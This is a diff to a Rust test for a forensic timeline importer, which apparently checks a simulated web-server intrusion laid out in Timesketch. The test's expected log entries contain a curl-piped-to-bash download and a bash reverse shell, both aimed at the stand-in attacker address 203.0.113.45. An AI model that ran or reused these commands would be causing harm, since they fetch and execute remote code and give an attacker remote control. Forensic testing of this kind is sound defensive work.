@@ -512,7 +512,7 @@ fn the_intrusion_story_imported_is_one_sorted_deterministic_timesketch_timeline(
     let download = at("web1", "2026-11-20T02:10:14.312000+00:00", &|r| {
         r["action"] == "execve"
             && cmd(r, "sh -c curl -fsSL http://203.0.113.45/x.sh | bash")
-            && r["user"] == "uid=33"
+            && r["user"] == "www-data"
     });
     let shell = at("web1", "2026-11-20T02:11:02.640000+00:00", &|r| {
         r["action"] == "execve" && cmd(r, "bash -c bash -i >& /dev/tcp/203.0.113.45/4444 0>&1")
